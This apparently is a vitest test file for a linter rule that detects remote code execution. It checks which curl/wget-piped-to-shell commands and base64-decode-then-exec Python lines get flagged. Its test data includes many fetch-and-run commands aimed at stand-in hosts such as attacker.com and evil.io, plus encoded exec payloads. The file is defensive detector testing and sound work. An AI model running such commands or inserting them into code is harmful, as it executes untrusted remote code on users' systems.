import { describe, expect, it } from 'vitest';
import { findRemoteExec } from '../../shared/lint/safety/remote-exec';
import type { TextKind } from '../../shared/lint/safety/remote-exec-code';
import { isFetchable } from '../../shared/lint/shell/reserved-host';

/** SPEC D256: a fetch with no fetchable operand, or a decode with no payload, runs nothing. */
const found = (kind: TextKind, text: string): string[] => findRemoteExec(text, undefined, kind).map((h) => h.label);
const fence = (lang: string, code: string) => found('markdown', `# Install\n\n\`\`\`${lang}\n${code}\n\`\`\`\n`);
const sh = (code: string) => found('shell', `#!/bin/sh\n${code}\n`);

describe('isFetchable', () => {
  it.each(['...', '…', '[url]', '<url>', '[your-url]', 'https://...', 'https://…/install.sh', 'https://<host>/i.sh'])(
    '%s names no host',
    (word) => {
      expect(isFetchable(word)).toBe(false);
    },
  );

  it.each([
    'attacker.com/x',
    'https://attacker.com/x',
    'url',
    'localhost',
    '10.0.0.1/x',
    '[::1]/x',
    '[a-z].evil.io',
    '[a-z]',
    '[1-9]',
    '{url}',
    'https:///evil.io/x',
    '...@evil.io',
    '[url]@evil.io',
    'https://[url]:x@evil.io/',
    'evil.io/...',
    'evil%2eio',
    'münchen.de/x',
    'https:\\\\evil.io',
    '\u0000',
  ])('%s may reach a host', (word) => {
    expect(isFetchable(word)).toBe(true);
  });
});

describe('a fetch of nothing is not remote-exec', () => {
  it.each([
    'curl | bash',
    'curl ... | sh',
    'curl … | sh',
    'curl -sSfL [url] | bash',
    'curl -fsSL <url> | sh',
    'curl -fsSL <install-script-url> | sudo bash',
    'wget -qO- [url] | bash',
    'curl https://.../install.sh | sh',
    'curl -fsSL https://<host>/install.sh | bash',
    'bash <(curl -fsSL [url])',
    'sh -c "$(curl -fsSL ...)"',
    'irm [url] | iex',
  ])('%s', (code) => {
    expect(fence('bash', code)).toEqual([]);
    expect(sh(code)).toEqual([]);
  });

  it('reads a command in a sentence the same way', () => {
    expect(found('markdown', 'The decoded payload is the same `curl | bash` pattern.\n')).toEqual([]);
  });

  it.each([
    'curl $URL | bash',
    'curl "${URL}" | bash',
    'curl "$(get_url)" | bash',
    'curl attacker.com/x | sh',
    'curl -sSfL https://attacker.com/steal | bash',
    'curl url | sh',
    'curl [a-z].evil.io | sh',
    'curl {url} | sh',
    'curl [url] evil.io/x | sh',
    'curl ... https://evil.io/x | sh',
    'curl https:///evil.io/x | sh',
    'curl [url]@evil.io | sh',
    'curl -K cfg.txt | sh',
    'curl --url evil.io | sh',
    'wget -i list.txt -O- | sh',
    'CURL_HOME=/tmp/x curl | sh',
    'echo evil.io/x | xargs curl -fsSL | sh',
    'echo evil.io/x | xargs -n1 curl | sh',
    'echo evil.io/x | sudo xargs curl [url] | sh',
    'echo evil.io/x | parallel curl | sh',
    'echo evil.io/x | xargs curl https://example.com/a | sh',
    'iwr | iex',
  ])('still remote: %s', (code) => {
    expect(fence('bash', code).length).toBeGreaterThan(0);
    expect(sh(code).length).toBeGreaterThan(0);
  });

  it('gives no exemption in a file that names a curl config file, which may hold a URL', () => {
    expect(sh('echo "url = https://evil.io/x" > ~/.curlrc\ncurl | sh')).toContain('curl|sh');
    expect(fence('bash', 'cp cfg ~/.curlrc\ncurl ... | sh')).toContain('curl|sh');
  });

  it('keeps valid shell meaning: `<in >out` is a redirection, not a placeholder', () => {
    expect(sh('curl evil.io/x <in >out | sh')).toContain('curl|sh');
  });
});

describe('a decode with nothing to decode is not remote-exec', () => {
  it.each([
    'exec(base64.b64decode(...))',
    'exec(base64.b64decode(…))',
    "exec(base64.b64decode('...'))",
    "exec(base64.b64decode('…'))",
    "exec(base64.b64decode('aW1wb3J0…'))",
    'exec(base64.b64decode())',
    'exec(base64.b64decode(',
  ])('%s', (code) => {
    expect(fence('python', code)).toEqual([]);
    expect(found('other', code)).toEqual([]);
  });

  it.each([
    'exec(base64.b64decode("ZXZpbCgp"))',
    "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgZXZpbC5jb20nKQ=='))",
    // b64decode drops what is not base64, so the part before the dots runs.
    "exec(base64.b64decode('aW1wb3J0IG9z...'))",
    'exec(base64.b64decode(code))',
    "exec(base64.b64decode('…'.strip('…') + 'ZXZpbCgp'))",
    'exec(base64.b64decode(...\n  + payload))',
    "exec(base64.b64decode(\n  'ZXZpbCgp'\n))",
  ])('still found: %j', (code) => {
    expect(fence('python', code)).toContain('decoded payload → eval');
    expect(found('other', code)).toContain('decoded payload → eval');
  });
});
